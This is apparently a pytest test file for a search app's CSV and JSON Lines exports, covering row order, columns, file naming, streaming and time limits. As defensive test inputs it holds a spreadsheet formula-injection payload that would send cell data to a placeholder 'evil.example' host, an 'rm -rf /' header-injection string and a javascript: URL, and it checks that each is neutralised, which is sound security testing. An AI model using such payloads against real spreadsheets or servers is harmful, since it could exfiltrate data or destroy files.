"""CSV and JSON Lines exports of a whole search: every row in the page's order, cells a
spreadsheet opens safely, a file name from the search, and a stream nothing cuts short."""

import csv
import io
import json
import time

import pytest

from tests.webapp.conftest import NEWEST_FIRST, R2009
from webapp import create_app
from webapp.exports import COLUMNS, csv_cell, export_filename
from webapp.params import SearchParams

HEADER = ["id", "title", "date", "issuer", "kind", "language", "officials", "countries", "url", "path"]


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:1000]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")  # spreadsheet programs read the BOM as "this is UTF-8"
    reader = csv.reader(io.StringIO(text[1:], newline=""))
    header, *rows = list(reader)
    assert header == HEADER
    return [dict(zip(header, row)) for row in rows]


def jsonl_rows(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:1000]
    assert response.headers["Content-Type"] == "application/x-ndjson; charset=utf-8"
    lines = response.data.decode("utf-8").split("\n")
    assert lines[-1] == ""  # every line ends with a line break, the last too
    rows = [json.loads(line) for line in lines[:-1]]
    assert all(list(row) == HEADER for row in rows)
    return rows


def page_ids(client, args: str) -> tuple[int, list[str]]:
    answer = client.get(f"/api/search?{args}&per_page=100").get_json()
    return answer["total"], [r["id"] for r in answer["results"]]


@pytest.mark.parametrize("args", ["q=border+security", "q=security&sort=oldest", "", "country=Panama&sort=newest",
                                  "q=napolitano+calderon+zzyzx", "q=secrity+cooperaton"])
def test_exports_hold_every_result_in_the_pages_order(client, args):
    total, ids = page_ids(client, args)
    assert total > 0
    csv_answer = client.get(f"/search.csv?{args}&page=2&per_page=1")  # a page is not an export's business
    assert csv_answer.headers["X-Total-Count"] == str(total)
    assert [row["id"] for row in csv_rows(csv_answer)] == ids
    assert [row["id"] for row in jsonl_rows(client.get(f"/search.jsonl?{args}"))] == ids


def test_every_column_of_a_release(client):
    (row,) = csv_rows(client.get("/search.csv?q=calderon"))
    assert row == {
        "id": R2009,
        "title": "DHS, DOJ, and Mexico Announce Initiative to Bolster Investigative Cooperation",
        "date": "2009-08-13",
        "issuer": "DHS",
        "kind": "",
        "language": "en",
        "officials": "Janet Napolitano; Eduardo Medina-Mora; Jorge Tello Peón; John Morton; Kenneth E. Melson; "
        "David W. Ogden; Barack Obama; Felipe Calderón; Agustín Carstens",
        "countries": "Mexico; United States",
        "url": "https://www.dhs.gov/archive/news/2009/08/13/dhs-doj-and-mexico-announce-cooperative-initiative",
        "path": R2009,
    }
    (line,) = jsonl_rows(client.get("/search.jsonl?q=calderon"))
    assert line == {**row, "kind": None, "officials": row["officials"].split("; "), "countries": ["Mexico", "United States"]}


def test_no_results_is_a_header_alone(client):
    assert csv_rows(client.get("/search.csv?q=border&country=Atlantis")) == []
    assert client.get("/search.jsonl?q=border&country=Atlantis").data == b""


def test_dates_keep_their_precision_and_unknowns_stay_empty(write_release, own_client):
    write_release("year.txt", "Border talks.\n", {"title": "A year", "date": "2010", "url": "javascript:alert(1)"})
    write_release("month.txt", "Border talks.\n", {"title": "A month", "date": "2010-05"})
    write_release("none.txt", "Border talks.\n", {"title": "No date"})
    client = own_client()
    rows = {r["title"]: r for r in jsonl_rows(client.get("/search.jsonl?q=border&sort=newest"))}
    assert {t: r["date"] for t, r in rows.items()} == {"A month": "2010-05", "A year": "2010", "No date": None}
    assert rows["A year"]["url"] is None  # only web addresses, as in the API
    assert {r["title"]: r["date"] for r in csv_rows(client.get("/search.csv?q=border"))}["No date"] == ""


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(write_release, own_client):
    write_release("formula.txt", "Border talks.\n", {
        "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "officials": ["+1+1", "Janet Napolitano"], "countries": ["@SUM(A1)"], "issuer": "-2+3",
    })
    (row,) = csv_rows(own_client().get("/search.csv?q=border"))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (row["officials"], row["countries"], row["issuer"]) == ("'+1+1; Janet Napolitano", "'@SUM(A1)", "'-2+3")


def test_csv_cell_neutralises_each_formula_start_and_nothing_else():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1") == "'" + start + "1"
    assert [csv_cell(v) for v in ("2011-07-12", "A=B", "", None, ["a", "=b"], ["=a", "b"])] == [
        "2011-07-12", "A=B", "", "", "a; =b", "'=a; b",
    ]


def test_downloads_are_named_after_the_search(client):
    disposition = client.get("/search.csv?q=Border+%22security%22/../x&country=El+Salvador&year=2007..2011").headers["Content-Disposition"]
    assert disposition == 'attachment; filename="releases-border-security-x-el-salvador-2007-2011.csv"'
    assert client.get("/search.jsonl").headers["Content-Disposition"] == 'attachment; filename="releases.jsonl"'


def test_file_names_are_safe_whatever_was_typed():
    assert export_filename(SearchParams(q="Panamá Calderón"), "csv") == "releases-panama-calderon.csv"
    assert export_filename(SearchParams(q='"; rm -rf / ; \r\nX-Evil: 1'), "csv") == "releases-rm-rf-x-evil-1.csv"
    assert export_filename(SearchParams(q="ДНК 国土"), "jsonl") == "releases.jsonl"
    long = export_filename(SearchParams(q="security " * 30), "csv")
    assert long == "releases-" + "-".join(["security"] * 6) + ".csv"  # 60 characters at most, cut at a word
    assert export_filename(SearchParams(date_from="2011-01-01", date_to="2011-12-31", year=("none",)), "csv") == (
        "releases-none-2011-01-01-2011-12-31.csv"
    )


def test_exports_refuse_unreadable_parameters_with_a_sentence(get):
    assert get("/search.csv?page=abc", status=400).text(".error-message") == "'page' must be a whole number from 1 to 1000, not 'abc'"
    assert get("/search.jsonl?from=yesterday", status=400).text(".error-message") == (
        "'from' must be a date written YYYY-MM-DD, not 'yesterday'"
    )


def test_the_search_page_links_its_exports_without_its_page(get):
    page = get("/search?q=border&country=Panama&sort=oldest&page=2&per_page=1")
    assert page.link("CSV") == "/search.csv?q=border&country=Panama&sort=oldest"
    assert page.link("JSON Lines") == "/search.jsonl?q=border&country=Panama&sort=oldest"
    assert page.text(".follow-downloads") == "Download all 3 results: CSV / JSON Lines"
    assert get("/search?q=border&country=Atlantis").soup.select(".follow-downloads") == []


def test_the_time_budget_bounds_the_ranking_but_does_not_cut_the_stream(corpus_index, monkeypatch):
    """Regression guard: the request's timer, left running, would end a long export midway
    with a file that looks whole. Ranking stays under it; the rows are bounded by their count."""
    import webapp.feeds

    app = create_app({"TESTING": True, "RELEASE_SEARCH_INDEX_DIR": corpus_index, "RELEASE_SEARCH_REQUEST_SECONDS": 0.5})
    client = app.test_client()
    real_row = webapp.feeds.export_row

    def slow_row(hit, url):
        time.sleep(0.3)  # five rows: 1.5 s, well past the 0.5 s budget and its timer's 0.25 s margin
        return real_row(hit, url)

    monkeypatch.setattr(webapp.feeds, "export_row", slow_row)
    started = time.monotonic()
    assert [row["id"] for row in csv_rows(client.get("/search.csv?sort=newest"))] == NEWEST_FIRST
    assert time.monotonic() - started > 1.5
    assert client.get("/search?q=border").status_code == 200  # the next request has its own budget

    real_all = webapp.feeds.all_results

    def slow_ranking(engine, params):
        time.sleep(3)
        return real_all(engine, params)

    monkeypatch.setattr(webapp.feeds, "all_results", slow_ranking)
    response = client.get("/search.csv")
    assert response.status_code == 503
    assert "needed more than its time allowance (0.5 s)" in response.get_data(as_text=True)


def test_exports_are_streamed(client):
    response = client.get("/search.csv", buffered=False)
    assert response.is_streamed
    response.close()
    assert COLUMNS == tuple(HEADER)


def test_exports_read_the_facts_column_not_the_stored_records(client, monkeypatch):
    """An export of 100,000 releases decompressed every stored record and body (about
    280 us a row: gunicorn's 30 s timeout at that size); it reads the facts column."""
    from webapp.engine import Generation

    def refuse(self, doc):
        raise AssertionError("an export read a stored record")

    monkeypatch.setattr(Generation, "stored", refuse)
    body = client.get("/search.csv?q=security").get_data(as_text=True)
    assert body.count("\n") == 1 + 5  # the header and every release
